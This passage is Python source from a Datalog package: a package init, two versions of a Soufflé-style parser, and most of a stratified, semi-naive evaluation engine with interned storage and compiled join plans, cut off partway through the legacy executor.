from repro.datalog.terms import Atom, Literal, Rule, Variable, var
from repro.datalog.engine import Database, Engine, StratificationError
from repro.datalog.planner import EngineStats, PlanningError
from repro.datalog.parser import (
    DatalogSyntaxError,
    parse_program,
    parse_program_lenient,
    parse_rule,
)

__all__ = [
    "Variable",
    "var",
    "Atom",
    "Literal",
    "Rule",
    "Database",
    "Engine",
    "EngineStats",
    "PlanningError",
    "StratificationError",
    "DatalogSyntaxError",
    "parse_program",
    "parse_program_lenient",
    "parse_rule",
]
