"""Parser for a Soufflé-like textual Datalog syntax.

Supported surface syntax::

    // comment
    .decl Edge(x, y)                     // optional, arity recorded
    Path(x, y) :- Edge(x, y).
    Path(x, z) :- Path(x, y), Edge(y, z).
    Safe(x) :- Node(x), !Tainted(x).
    Fact("a", 42).                       // ground fact (stored as a rule)

Terms: lowercase identifiers are variables, ``_`` is the wildcard, quoted
strings and integer literals are constants.  Uppercase-initial identifiers
are also variables (Datalog tradition varies; here anything unquoted and
non-numeric is a variable) — use quotes for symbolic constants.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, List, Tuple

from repro.datalog.terms import Atom, Literal, Rule, Variable


class DatalogSyntaxError(Exception):
    """Malformed Datalog text."""


_TOKEN_RE = re.compile(
    r"""
    (?P<ws>\s+)
  | (?P<comment>//[^\n]*)
  | (?P<decl>\.decl)
  | (?P<implies>:-)
  | (?P<string>"(?:[^"\\]|\\.)*")
  | (?P<number>-?\d+)
  | (?P<ident>[A-Za-z_][A-Za-z0-9_]*)
  | (?P<punct>[(),.!])
    """,
    re.VERBOSE,
)


def _tokenize(text: str) -> List[Tuple[str, str]]:
    tokens: List[Tuple[str, str]] = []
    position = 0
    while position < len(text):
        matched = _TOKEN_RE.match(text, position)
        if matched is None:
            raise DatalogSyntaxError(
                "unexpected character %r at offset %d" % (text[position], position)
            )
        kind = matched.lastgroup
        if kind not in ("ws", "comment"):
            tokens.append((kind, matched.group()))
        position = matched.end()
    tokens.append(("eof", ""))
    return tokens


@dataclass
class ParsedProgram:
    rules: List[Rule] = field(default_factory=list)
    declarations: Dict[str, int] = field(default_factory=dict)  # relation -> arity


class _Parser:
    def __init__(self, tokens: List[Tuple[str, str]]):
        self.tokens = tokens
        self.position = 0

    @property
    def current(self) -> Tuple[str, str]:
        return self.tokens[self.position]

    def advance(self) -> Tuple[str, str]:
        token = self.current
        if token[0] != "eof":
            self.position += 1
        return token

    def expect(self, kind: str, text: str = None) -> Tuple[str, str]:
        token = self.current
        if token[0] != kind or (text is not None and token[1] != text):
            raise DatalogSyntaxError("expected %s %r, got %r" % (kind, text, token[1]))
        return self.advance()

    def parse(self) -> ParsedProgram:
        program = ParsedProgram()
        while self.current[0] != "eof":
            if self.current[0] == "decl":
                self.advance()
                name = self.expect("ident")[1]
                self.expect("punct", "(")
                arity = 0
                while self.current[1] != ")":
                    self.advance()
                    arity += 1
                    if self.current[1] == ",":
                        self.advance()
                self.expect("punct", ")")
                program.declarations[name] = arity
                continue
            program.rules.append(self.parse_rule())
        return program

    def parse_rule(self) -> Rule:
        head = self.parse_atom()
        body = []
        if self.current == ("implies", ":-"):
            self.advance()
            while True:
                negated = False
                if self.current == ("punct", "!"):
                    self.advance()
                    negated = True
                atom = self.parse_atom()
                body.append(Literal(atom, negated=negated))
                if self.current == ("punct", ","):
                    self.advance()
                    continue
                break
        self.expect("punct", ".")
        return Rule(head=head, body=body)

    def parse_atom(self) -> Atom:
        name = self.expect("ident")[1]
        self.expect("punct", "(")
        args = []
        while self.current[1] != ")":
            kind, text = self.advance()
            if kind == "string":
                args.append(text[1:-1].replace('\\"', '"').replace("\\\\", "\\"))
            elif kind == "number":
                args.append(int(text))
            elif kind == "ident":
                args.append(Variable(text))
            else:
                raise DatalogSyntaxError("unexpected term %r" % text)
            if self.current == ("punct", ","):
                self.advance()
        self.expect("punct", ")")
        return Atom(name, *args)


def parse_program(text: str) -> ParsedProgram:
    """Parse a full program (declarations + rules + ground facts)."""
    return _Parser(_tokenize(text)).parse()


def parse_rule(text: str) -> Rule:
    """Parse a single rule or fact."""
    parser = _Parser(_tokenize(text))
    rule = parser.parse_rule()
    if parser.current[0] != "eof":
        raise DatalogSyntaxError("trailing input after rule")
    return rule
