"""Parser for a Soufflé-like textual Datalog syntax.

Supported surface syntax::

    // comment
    .decl Edge(x, y)                     // optional, arity recorded
    Path(x, y) :- Edge(x, y).
    Path(x, z) :- Path(x, y), Edge(y, z).
    Safe(x) :- Node(x), !Tainted(x).
    Fact("a", 42).                       // ground fact (stored as a rule)

Terms: lowercase identifiers are variables, ``_`` is the wildcard, quoted
strings and integer literals are constants.  Uppercase-initial identifiers
are also variables (Datalog tradition varies; here anything unquoted and
non-numeric is a variable) — use quotes for symbolic constants.

Every atom's arity is checked against an earlier ``.decl`` for its
relation, or — when the relation was never declared — against its first
use; a contradiction is a :class:`DatalogSyntaxError` carrying the line.
The linter (:mod:`repro.datalog.lint`) parses with
:func:`parse_program_lenient` instead, which *collects* arity and rule
safety problems as :class:`ParseIssue` records rather than raising on the
first one.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.datalog.terms import Atom, Literal, Rule, Variable


class DatalogSyntaxError(Exception):
    """Malformed Datalog text.  ``line`` is 1-based when known."""

    def __init__(self, message: str, line: int = 0):
        super().__init__(message if not line else "line %d: %s" % (line, message))
        self.line = line


_TOKEN_RE = re.compile(
    r"""
    (?P<ws>\s+)
  | (?P<comment>//[^\n]*)
  | (?P<decl>\.decl)
  | (?P<implies>:-)
  | (?P<string>"(?:[^"\\]|\\.)*")
  | (?P<number>-?\d+)
  | (?P<ident>[A-Za-z_][A-Za-z0-9_]*)
  | (?P<punct>[(),.!])
    """,
    re.VERBOSE,
)


@dataclass(frozen=True)
class Token:
    kind: str
    text: str
    line: int  # 1-based


def _tokenize(text: str) -> List[Token]:
    tokens: List[Token] = []
    position = 0
    line = 1
    while position < len(text):
        matched = _TOKEN_RE.match(text, position)
        if matched is None:
            raise DatalogSyntaxError(
                "unexpected character %r" % text[position], line=line
            )
        kind = matched.lastgroup
        if kind not in ("ws", "comment"):
            tokens.append(Token(kind, matched.group(), line))
        line += matched.group().count("\n")
        position = matched.end()
    tokens.append(Token("eof", "", line))
    return tokens


@dataclass(frozen=True)
class ParseIssue:
    """One problem found while parsing leniently."""

    line: int
    code: str  # "arity-mismatch" | "unsafe-rule" | "duplicate-decl"
    message: str


@dataclass
class ParsedProgram:
    rules: List[Rule] = field(default_factory=list)
    declarations: Dict[str, int] = field(default_factory=dict)  # relation -> arity
    declaration_lines: Dict[str, int] = field(default_factory=dict)
    issues: List[ParseIssue] = field(default_factory=list)  # lenient mode only


class _Parser:
    def __init__(self, tokens: List[Token], lenient: bool = False):
        self.tokens = tokens
        self.position = 0
        self.lenient = lenient
        # relation -> (arity, line, "declared" | "used") for consistency
        # checking across the whole program.
        self.arities: Dict[str, Tuple[int, int, str]] = {}
        self.issues: List[ParseIssue] = []

    @property
    def current(self) -> Token:
        return self.tokens[self.position]

    def advance(self) -> Token:
        token = self.current
        if token.kind != "eof":
            self.position += 1
        return token

    def expect(self, kind: str, text: Optional[str] = None) -> Token:
        token = self.current
        if token.kind != kind or (text is not None and token.text != text):
            raise DatalogSyntaxError(
                "expected %s %r, got %r" % (kind, text, token.text), line=token.line
            )
        return self.advance()

    def _problem(self, code: str, message: str, line: int) -> None:
        if self.lenient:
            self.issues.append(ParseIssue(line=line, code=code, message=message))
        else:
            raise DatalogSyntaxError(message, line=line)

    def _check_arity(self, name: str, arity: int, line: int, origin: str) -> None:
        known = self.arities.get(name)
        if known is None:
            self.arities[name] = (arity, line, origin)
            return
        known_arity, known_line, known_origin = known
        if arity != known_arity:
            self._problem(
                "arity-mismatch",
                "relation %s used with arity %d but %s with arity %d at line %d"
                % (name, arity, known_origin, known_arity, known_line),
                line,
            )

    def parse(self) -> ParsedProgram:
        program = ParsedProgram()
        while self.current.kind != "eof":
            if self.current.kind == "decl":
                decl_token = self.advance()
                name_token = self.expect("ident")
                name = name_token.text
                self.expect("punct", "(")
                arity = 0
                while self.current.text != ")":
                    self.advance()
                    arity += 1
                    if self.current.text == ",":
                        self.advance()
                self.expect("punct", ")")
                if name in program.declarations:
                    self._problem(
                        "duplicate-decl",
                        "relation %s re-declared (first declared at line %d)"
                        % (name, program.declaration_lines[name]),
                        decl_token.line,
                    )
                else:
                    program.declarations[name] = arity
                    program.declaration_lines[name] = decl_token.line
                self._check_arity(name, arity, decl_token.line, "declared")
                continue
            program.rules.append(self.parse_rule())
        program.issues = self.issues
        return program

    def parse_rule(self) -> Rule:
        line = self.current.line
        head = self.parse_atom()
        body = []
        if (self.current.kind, self.current.text) == ("implies", ":-"):
            self.advance()
            while True:
                negated = False
                if (self.current.kind, self.current.text) == ("punct", "!"):
                    self.advance()
                    negated = True
                atom = self.parse_atom()
                body.append(Literal(atom, negated=negated))
                if (self.current.kind, self.current.text) == ("punct", ","):
                    self.advance()
                    continue
                break
        self.expect("punct", ".")
        if self.lenient:
            rule = Rule(head=head, body=body, line=line, check=False)
            for violation in rule.safety_violations():
                self._problem("unsafe-rule", violation, line)
            return rule
        return Rule(head=head, body=body, line=line)

    def parse_atom(self) -> Atom:
        name_token = self.expect("ident")
        name = name_token.text
        self.expect("punct", "(")
        args = []
        while self.current.text != ")":
            token = self.advance()
            if token.kind == "string":
                args.append(token.text[1:-1].replace('\\"', '"').replace("\\\\", "\\"))
            elif token.kind == "number":
                args.append(int(token.text))
            elif token.kind == "ident":
                args.append(Variable(token.text))
            else:
                raise DatalogSyntaxError(
                    "unexpected term %r" % token.text, line=token.line
                )
            if (self.current.kind, self.current.text) == ("punct", ","):
                self.advance()
        self.expect("punct", ")")
        self._check_arity(name, len(args), name_token.line, "used")
        return Atom(name, *args)


def parse_program(text: str) -> ParsedProgram:
    """Parse a full program (declarations + rules + ground facts).

    Arity contradictions (vs. an earlier ``.decl`` or the relation's first
    use) raise :class:`DatalogSyntaxError` with the offending line.
    """
    return _Parser(_tokenize(text)).parse()


def parse_program_lenient(text: str) -> ParsedProgram:
    """Parse, collecting arity/safety problems instead of raising.

    Returned rules are built *without* the construction-time safety check
    (the violations appear in ``program.issues``), so an unsafe program can
    still be inspected by the linter.  Structural syntax errors (unbalanced
    parentheses, missing ``.``) still raise.
    """
    return _Parser(_tokenize(text), lenient=True).parse()


def parse_rule(text: str) -> Rule:
    """Parse a single rule or fact."""
    parser = _Parser(_tokenize(text))
    rule = parser.parse_rule()
    if parser.current.kind != "eof":
        raise DatalogSyntaxError("trailing input after rule", line=parser.current.line)
    return rule
