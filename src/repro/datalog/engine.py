"""Semi-naive, stratified Datalog evaluation over compiled join plans.

Evaluation pipeline:

1. **Stratification** — relations are grouped into strongly connected
   components of the rule dependency graph; a negative edge inside an SCC is
   a :class:`StratificationError` (the program is not stratifiable).  SCCs
   are evaluated in topological order, so a negated relation is always fully
   computed before it is read.
2. **Query planning** — each rule is compiled (see
   :mod:`repro.datalog.planner`) into a static join plan: body literals
   reordered by a sideways-information-passing heuristic, per-literal index
   signatures precomputed, and one delta-specialized variant per recursive
   body position.  Plans are bound to the database once per evaluation
   (constants interned, indexes registered eagerly) and executed by a flat,
   non-recursive interpreter.
3. **Semi-naive iteration** — within a recursive SCC, each round runs the
   delta variants whose delta relation gained facts in the previous round,
   probing per-round delta indexes so both sides of a recursive join are
   indexed.

The database interns every constant into a dense symbol table, so stored
tuples are int-only: hashing, equality, and index keys never touch the
original (possibly string) values.  The legacy closure-recursion
interpreter is kept behind ``Engine(use_plans=False)`` as the equivalence
baseline; both paths produce byte-identical fixpoints and provenance.
"""

from __future__ import annotations

from typing import Any, Dict, Iterable, List, Optional, Sequence, Set, Tuple

from repro.datalog.planner import (
    EngineStats,
    FilterGuard,
    NegGuard,
    PlanningError,
    PlanVariant,
    RulePlan,
    compile_strata,
)
from repro.datalog.terms import (
    Atom,
    Binding,
    Filter,
    Literal,
    Rule,
    Variable,
    match,
    substitute,
)


class StratificationError(Exception):
    """The program uses negation through recursion."""


# ------------------------------------------------------------ SCC machinery
#
# Shared between the engine's stratifier and the program linter's
# stratification preview (:mod:`repro.datalog.lint`).


def rule_dependency_graph(
    rules: Sequence[Rule],
) -> Tuple[Set[str], List[Tuple[str, str, bool]]]:
    """The relation dependency graph of ``rules``.

    Returns ``(relations, edges)`` where each edge is
    ``(body relation, head relation, negated)``.
    """
    relations: Set[str] = set()
    edges: List[Tuple[str, str, bool]] = []
    for rule in rules:
        relations.add(rule.head.relation)
        for item in rule.body:
            if isinstance(item, Literal):
                relations.add(item.atom.relation)
                edges.append((item.atom.relation, rule.head.relation, item.negated))
    return relations, edges


def strongly_connected_components(
    relations: Iterable[str], successors: Dict[str, Set[str]]
) -> Tuple[List[List[str]], Dict[str, int]]:
    """Tarjan SCC (iterative).  Returns ``(components, component_of)``;
    components are emitted in reverse topological order."""
    index_counter = [0]
    stack: List[str] = []
    lowlink: Dict[str, int] = {}
    index: Dict[str, int] = {}
    on_stack: Set[str] = set()
    component_of: Dict[str, int] = {}
    components: List[List[str]] = []

    def strongconnect(node: str) -> None:
        worklist = [(node, iter(successors.get(node, ())))]
        index[node] = lowlink[node] = index_counter[0]
        index_counter[0] += 1
        stack.append(node)
        on_stack.add(node)
        while worklist:
            current, successor_iter = worklist[-1]
            advanced = False
            for successor in successor_iter:
                if successor not in index:
                    index[successor] = lowlink[successor] = index_counter[0]
                    index_counter[0] += 1
                    stack.append(successor)
                    on_stack.add(successor)
                    worklist.append((successor, iter(successors.get(successor, ()))))
                    advanced = True
                    break
                if successor in on_stack:
                    lowlink[current] = min(lowlink[current], index[successor])
            if advanced:
                continue
            worklist.pop()
            if worklist:
                parent = worklist[-1][0]
                lowlink[parent] = min(lowlink[parent], lowlink[current])
            if lowlink[current] == index[current]:
                component: List[str] = []
                while True:
                    member = stack.pop()
                    on_stack.discard(member)
                    component_of[member] = len(components)
                    component.append(member)
                    if member == current:
                        break
                components.append(component)

    for rel in relations:
        if rel not in index:
            strongconnect(rel)
    return components, component_of


def condensation_levels(
    components: List[List[str]],
    component_of: Dict[str, int],
    edges: List[Tuple[str, str, bool]],
) -> Dict[int, int]:
    """Stratum level per component: Kahn-style longest path over the SCC
    condensation of ``edges``."""
    condensed: Dict[int, Set[int]] = {i: set() for i in range(len(components))}
    for source, target, _ in edges:
        s, t = component_of[source], component_of[target]
        if s != t:
            condensed[s].add(t)
    indegree: Dict[int, int] = {i: 0 for i in range(len(components))}
    for source_component, targets in condensed.items():
        for target_component in targets:
            indegree[target_component] += 1
    queue = [c for c, d in indegree.items() if d == 0]
    level: Dict[int, int] = {c: 0 for c in queue}
    while queue:
        current = queue.pop()
        for target_component in condensed[current]:
            level[target_component] = max(
                level.get(target_component, 0), level[current] + 1
            )
            indegree[target_component] -= 1
            if indegree[target_component] == 0:
                queue.append(target_component)
    return level


class Database:
    """Interned fact storage with eagerly maintainable hash indexes.

    Every constant is interned into a dense symbol table on first sight, so
    relations store tuples of small ints: hashing, equality, and index keys
    are int-only no matter how large the original values are.  The public
    API (``add``/``facts``/``lookup``/``contains``) still speaks raw
    values — interning is invisible to callers.

    Indexes live per relation (``_indexes[relation][positions]``) so an
    insert only maintains the inserted relation's indexes; they are
    registered eagerly by compiled join plans (:meth:`register_index`) and
    updated incrementally by every subsequent insert.
    """

    def __init__(self) -> None:
        self._intern: Dict[Any, int] = {}
        self._symbols: List[Any] = []
        # relation -> set of interned tuples
        self._relations: Dict[str, Set[Tuple[int, ...]]] = {}
        # relation -> {bound positions: {interned key: [interned facts]}} —
        # nested by relation so inserts only touch the inserted relation's
        # indexes (a flat map made every add() scan every index).
        self._indexes: Dict[str, Dict[Tuple[int, ...], Dict[Tuple, List[Tuple]]]] = {}
        # relation -> cached frozenset of decoded facts (facts() result),
        # invalidated on insert.
        self._decoded: Dict[str, frozenset] = {}
        # relation -> {interned fact: decoded fact} memo for lookup().
        self._fact_memo: Dict[str, Dict[Tuple, Tuple]] = {}

    # ---------------------------------------------------------- interning

    def intern_value(self, value: Any) -> int:
        """Dense id for ``value``, allocating one on first sight."""
        ident = self._intern.get(value)
        if ident is None:
            ident = len(self._symbols)
            self._intern[value] = ident
            self._symbols.append(value)
        return ident

    def decode(self, fact: Tuple[int, ...]) -> Tuple:
        """Raw-value tuple for an interned fact."""
        symbols = self._symbols
        return tuple(symbols[ident] for ident in fact)

    # ------------------------------------------------------------ mutation

    def add(self, relation: str, fact: Iterable) -> bool:
        """Insert one fact (raw values); returns True if it was new."""
        intern = self._intern
        symbols = self._symbols
        interned: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                ident = len(symbols)
                intern[value] = ident
                symbols.append(value)
            interned.append(ident)
        return self._add_interned(relation, tuple(interned))

    def _add_interned(self, relation: str, fact: Tuple[int, ...]) -> bool:
        """Insert an already-interned fact; returns True if it was new."""
        rel = self._relations.get(relation)
        if rel is None:
            rel = self._relations[relation] = set()
        if fact in rel:
            return False
        rel.add(fact)
        indexes = self._indexes.get(relation)
        if indexes:
            for positions, index in indexes.items():
                key = tuple(fact[position] for position in positions)
                bucket = index.get(key)
                if bucket is None:
                    index[key] = [fact]
                else:
                    bucket.append(fact)
        self._decoded.pop(relation, None)
        return True

    def add_all(self, relation: str, facts: Iterable[Iterable]) -> int:
        """Insert many facts; returns how many were new."""
        return sum(1 for fact in facts if self.add(relation, fact))

    # -------------------------------------------------------------- reads

    def facts(self, relation: str) -> frozenset:
        """Immutable snapshot of ``relation``'s facts (raw values).

        The frozenset is cached until the relation next changes, so
        repeated reads of a settled relation are free and callers can no
        longer corrupt the store by mutating the result.
        """
        cached = self._decoded.get(relation)
        if cached is None:
            symbols = self._symbols
            cached = frozenset(
                tuple(symbols[ident] for ident in fact)
                for fact in self._relations.get(relation, ())
            )
            self._decoded[relation] = cached
        return cached

    def relations(self) -> List[str]:
        """Names of all non-empty relations."""
        return [name for name, rel in self._relations.items() if rel]

    def contains(self, relation: str, fact: Iterable) -> bool:
        """Membership test for one fact (raw values)."""
        intern = self._intern
        interned: List[int] = []
        for value in fact:
            ident = intern.get(value)
            if ident is None:
                return False
            interned.append(ident)
        return tuple(interned) in self._relations.get(relation, ())

    def count(self, relation: str) -> int:
        """Number of facts in ``relation``."""
        return len(self._relations.get(relation, ()))

    def lookup(
        self, relation: str, positions: Tuple[int, ...], key: Tuple
    ) -> Iterable[Tuple]:
        """Facts whose values at ``positions`` equal ``key``.

        With bound positions this probes (building if needed) the matching
        hash index and returns a list of decoded facts; with no positions
        it returns the cached :meth:`facts` frozenset instead of copying
        the whole relation.
        """
        if not positions:
            return self.facts(relation)
        relation_indexes = self._indexes.setdefault(relation, {})
        index = relation_indexes.get(positions)
        if index is None:
            index = self._build_index(relation, positions)
        intern = self._intern
        interned_key: List[int] = []
        for value in key:
            ident = intern.get(value)
            if ident is None:
                return []
            interned_key.append(ident)
        bucket = index.get(tuple(interned_key))
        if not bucket:
            return []
        memo = self._fact_memo.setdefault(relation, {})
        symbols = self._symbols
        out: List[Tuple] = []
        for fact in bucket:
            decoded = memo.get(fact)
            if decoded is None:
                decoded = memo[fact] = tuple(symbols[ident] for ident in fact)
            out.append(decoded)
        return out

    def clone_relation(self, relation: str) -> Set[Tuple]:
        """A mutable copy of one relation's decoded fact set."""
        return set(self.facts(relation))

    # ----------------------------------------------------- engine plumbing

    def register_index(
        self, relation: str, positions: Tuple[int, ...]
    ) -> Tuple[Dict[Tuple, List[Tuple]], bool]:
        """Ensure a hash index on ``positions`` exists (compiled plans call
        this eagerly at bind time, before the fixpoint starts).

        Returns ``(index, built)`` where ``built`` says whether this call
        created it; the returned dict is live — inserts keep it fresh.
        """
        relation_indexes = self._indexes.setdefault(relation, {})
        index = relation_indexes.get(positions)
        if index is not None:
            return index, False
        return self._build_index(relation, positions), True

    def _build_index(
        self, relation: str, positions: Tuple[int, ...]
    ) -> Dict[Tuple, List[Tuple]]:
        index: Dict[Tuple, List[Tuple]] = {}
        for fact in self._relations.get(relation, ()):
            key = tuple(fact[position] for position in positions)
            index.setdefault(key, []).append(fact)
        self._indexes.setdefault(relation, {})[positions] = index
        return index

    def relation_view(self, relation: str) -> Set[Tuple[int, ...]]:
        """The live *interned* fact set of ``relation``, created on demand
        so bind-time captured references stay valid as facts arrive."""
        rel = self._relations.get(relation)
        if rel is None:
            rel = self._relations[relation] = set()
        return rel


class Engine:
    """Evaluates a rule set over a database to fixpoint.

    Rules are compiled into join plans at construction and re-planned
    against actual relation sizes at each :meth:`evaluate` (see
    :mod:`repro.datalog.planner`); ``use_plans=False`` selects the legacy
    closure-recursion interpreter, kept as the equivalence and benchmark
    baseline.  ``stats`` accumulates :class:`EngineStats` counters across
    evaluations on either path.

    With ``track_provenance=True`` the engine records, for each derived
    fact, the rule and body facts of its *first* derivation; ``explain``
    then renders the derivation tree down to the EDB — the "why" behind an
    analysis warning.
    """

    def __init__(
        self,
        rules: Sequence[Rule],
        track_provenance: bool = False,
        use_plans: bool = True,
    ):
        self.rules = list(rules)
        self.track_provenance = track_provenance
        self.use_plans = use_plans
        self.stats = EngineStats()
        # (relation, fact) -> (rule, [(relation, fact), ...]) of 1st proof.
        self.provenance: Dict[Tuple[str, Tuple], Tuple[Rule, List[Tuple[str, Tuple]]]] = {}
        self.strata = self._stratify()
        # Static compile (no size estimates) surfaces PlanningErrors —
        # wildcards in negation, unbindable filter variables — at
        # construction; evaluate() re-plans with live relation sizes.
        self.plans: List[List[RulePlan]] = (
            compile_strata(self.strata) if use_plans else []
        )

    # -------------------------------------------------------- stratification

    def _stratify(self) -> List[List[Rule]]:
        relations, edges = rule_dependency_graph(self.rules)
        successors: Dict[str, Set[str]] = {rel: set() for rel in relations}
        for source, target, _ in edges:
            successors[source].add(target)

        components, component_of = strongly_connected_components(
            relations, successors
        )

        # Negative edge inside one SCC => not stratifiable.
        for source, target, negated in edges:
            if negated and component_of[source] == component_of[target]:
                raise StratificationError(
                    "negation of %r is recursive with %r" % (source, target)
                )

        level = condensation_levels(components, component_of, edges)
        max_level = max(level.values(), default=0)
        strata: List[List[Rule]] = [[] for _ in range(max_level + 1)]
        for rule in self.rules:
            component = component_of[rule.head.relation]
            strata[level.get(component, 0)].append(rule)
        return [stratum for stratum in strata if stratum]

    # ------------------------------------------------------------ evaluation

    def evaluate(
        self,
        database: Database,
        max_iterations: int = 1_000_000,
        deadline=None,
    ) -> Database:
        """Run all strata to fixpoint, mutating and returning ``database``.

        ``deadline`` is an optional cooperative budget (duck-typed:
        ``check()`` raises when spent), consulted once per semi-naive
        iteration so runaway recursion respects the caller's cutoff.
        """
        self.stats.evaluations += 1
        if self.use_plans:
            # Re-plan with live relation sizes so the SIP heuristic orders
            # joins by actual EDB cardinalities, then bind each stratum's
            # plans (intern constants, register indexes) just before it runs
            # so lower-stratum results inform upper-stratum plans.
            self.plans = compile_strata(self.strata, size_of=database.count)
            for stratum_plans in self.plans:
                self._bind_stratum(database, stratum_plans)
                self._evaluate_stratum_compiled(
                    database, stratum_plans, max_iterations, deadline
                )
        else:
            for stratum in self.strata:
                self._evaluate_stratum(database, stratum, max_iterations, deadline)
        return database

    # ----------------------------------------------------- compiled executor

    def _bind_stratum(self, database: Database, plans: List[RulePlan]) -> None:
        """Bind every variant of every plan to ``database``: intern plan
        constants, capture live relation views, and eagerly register the
        indexes the join steps declared."""
        for plan in plans:
            for variant in plan.variants():
                self._bind_variant(database, variant)

    def _bind_variant(self, database: Database, variant: PlanVariant) -> None:
        intern = database.intern_value
        for guard in variant.prelude:
            self._bind_guard(database, guard)
        for step in variant.steps:
            step.key_spec = tuple(
                (True, value) if from_slot else (False, intern(value))
                for from_slot, value in step.key_spec
            )
            if step.key_spec and all(
                not from_slot for from_slot, _ in step.key_spec
            ):
                step.static_key = tuple(value for _, value in step.key_spec)
            if step.delta:
                pass  # candidates come from the per-round delta sets
            elif step.positions:
                index, built = database.register_index(
                    step.relation, step.positions
                )
                step.index = index
                if built:
                    self.stats.index_builds += 1
            else:
                step.rel_set = database.relation_view(step.relation)
            for guard in step.guards:
                self._bind_guard(database, guard)
        variant.head_spec = tuple(
            (True, value) if from_slot else (False, intern(value))
            for from_slot, value in variant.head_spec
        )
        if all(not from_slot for from_slot, _ in variant.head_spec):
            variant.static_head = tuple(
                value for _, value in variant.head_spec
            )

    def _bind_guard(self, database: Database, guard) -> None:
        if isinstance(guard, NegGuard):
            guard.key_spec = tuple(
                (True, value)
                if from_slot
                else (False, database.intern_value(value))
                for from_slot, value in guard.key_spec
            )
            guard.rel_set = database.relation_view(guard.relation)
        # FilterGuard constants stay raw: predicates see original values.

    def _evaluate_stratum_compiled(
        self,
        database: Database,
        plans: List[RulePlan],
        max_iterations: int,
        deadline=None,
    ) -> None:
        stats = self.stats
        tracking = self.track_provenance
        heads = {plan.rule.head.relation for plan in plans}

        def flush(plan: RulePlan, matches, delta_out) -> None:
            derived = 0
            relation = plan.rule.head.relation
            for head_fact, support in matches:
                if database._add_interned(relation, head_fact):
                    derived += 1
                    delta_out[relation].add(head_fact)
                    if tracking:
                        self._record_interned(
                            database, plan.rule, head_fact, support
                        )
            stats.count_rule(plan.key, len(matches), derived)

        # Naive first round to seed deltas, then semi-naive iteration.
        delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
        for plan in plans:
            flush(plan, self._run_variant(database, plan.seed, None, None), delta)

        iterations = 0
        while any(delta.values()):
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("datalog evaluation did not converge")
            if deadline is not None:
                deadline.check()
            stats.iterations += 1
            new_delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
            delta_index_cache: Dict[Tuple[str, Tuple[int, ...]], Dict] = {}
            for plan in plans:
                for variant in plan.delta_variants.values():
                    if not delta.get(variant.delta_relation):
                        continue
                    flush(
                        plan,
                        self._run_variant(
                            database, variant, delta, delta_index_cache
                        ),
                        new_delta,
                    )
            delta = new_delta
        stats.stratum_iterations.append(iterations)

    def _run_variant(
        self,
        database: Database,
        variant: PlanVariant,
        delta: Optional[Dict[str, Set[Tuple]]],
        delta_index_cache: Optional[Dict],
    ) -> List[Tuple[Tuple, list]]:
        """Execute one bound plan variant: a flat backtracking join over
        resumable candidate iterators.  Returns ``(head fact, support)``
        pairs (support is empty unless provenance tracking is on)."""
        env: List[Any] = [None] * variant.n_slots
        for guard in variant.prelude:
            if not self._eval_guard(database, guard, env):
                return []
        steps = variant.steps
        depth = len(steps)
        if depth == 0:
            return [(variant.static_head, [])]
        tracking = self.track_provenance
        results: List[Tuple[Tuple, list]] = []
        iters: List[Any] = [None] * depth
        trail: List[Any] = [None] * depth
        head_spec = variant.head_spec
        static_head = variant.static_head
        level = 0
        iters[0] = self._candidates(steps[0], env, delta, delta_index_cache)
        while level >= 0:
            step = steps[level]
            descended = False
            for fact in iters[level]:
                ok = True
                for position, slot in step.outs:
                    env[slot] = fact[position]
                for position, slot in step.checks:
                    if fact[position] != env[slot]:
                        ok = False
                        break
                if ok:
                    for guard in step.guards:
                        if not self._eval_guard(database, guard, env):
                            ok = False
                            break
                if not ok:
                    continue
                if tracking:
                    trail[level] = (step.orig_index, step.relation, fact)
                if level + 1 == depth:
                    head = static_head
                    if head is None:
                        head = tuple(
                            env[value] if from_slot else value
                            for from_slot, value in head_spec
                        )
                    results.append((head, list(trail) if tracking else []))
                    continue
                level += 1
                iters[level] = self._candidates(
                    steps[level], env, delta, delta_index_cache
                )
                descended = True
                break
            if not descended:
                level -= 1
        return results

    def _candidates(
        self,
        step,
        env: List[Any],
        delta: Optional[Dict[str, Set[Tuple]]],
        delta_index_cache: Optional[Dict],
    ):
        """Iterator over a join step's candidate facts: delta set/index for
        delta steps, registered index probe or full scan otherwise."""
        stats = self.stats
        stats.join_probes += 1
        if step.delta:
            facts = delta.get(step.relation, ())
            if not step.positions:
                return iter(facts)
            cache_key = (step.relation, step.positions)
            index = delta_index_cache.get(cache_key)
            if index is None:
                index = {}
                for fact in facts:
                    key = tuple(fact[position] for position in step.positions)
                    index.setdefault(key, []).append(fact)
                delta_index_cache[cache_key] = index
                stats.delta_index_builds += 1
            key = step.static_key
            if key is None:
                key = tuple(
                    env[value] if from_slot else value
                    for from_slot, value in step.key_spec
                )
            return iter(index.get(key, ()))
        if not step.positions:
            return iter(step.rel_set)
        key = step.static_key
        if key is None:
            key = tuple(
                env[value] if from_slot else value
                for from_slot, value in step.key_spec
            )
        stats.index_probes += 1
        bucket = step.index.get(key)
        if bucket is None:
            return iter(())
        stats.index_hits += 1
        return iter(bucket)

    def _eval_guard(self, database: Database, guard, env: List[Any]) -> bool:
        """Evaluate a bound negation or filter guard against the current
        slot environment."""
        if guard.__class__ is NegGuard:
            probe = tuple(
                env[value] if from_slot else value
                for from_slot, value in guard.key_spec
            )
            return probe not in guard.rel_set
        symbols = database._symbols
        values = [
            symbols[env[value]] if from_slot else value
            for from_slot, value in guard.arg_spec
        ]
        return bool(guard.predicate(*values))

    # ------------------------------------------------------- legacy executor

    def _evaluate_stratum(
        self,
        database: Database,
        rules: List[Rule],
        max_iterations: int,
        deadline=None,
    ) -> None:
        stats = self.stats
        heads = {rule.head.relation for rule in rules}

        # Naive first round to seed deltas, then semi-naive iteration.
        delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
        for rule in rules:
            results = self._derive(database, rule, None, {})
            derived = 0
            for fact, support in results:
                if database.add(rule.head.relation, fact):
                    delta[rule.head.relation].add(fact)
                    derived += 1
                    self._record(rule, fact, support)
            stats.count_rule(repr(rule), len(results), derived)

        iterations = 0
        while any(delta.values()):
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("datalog evaluation did not converge")
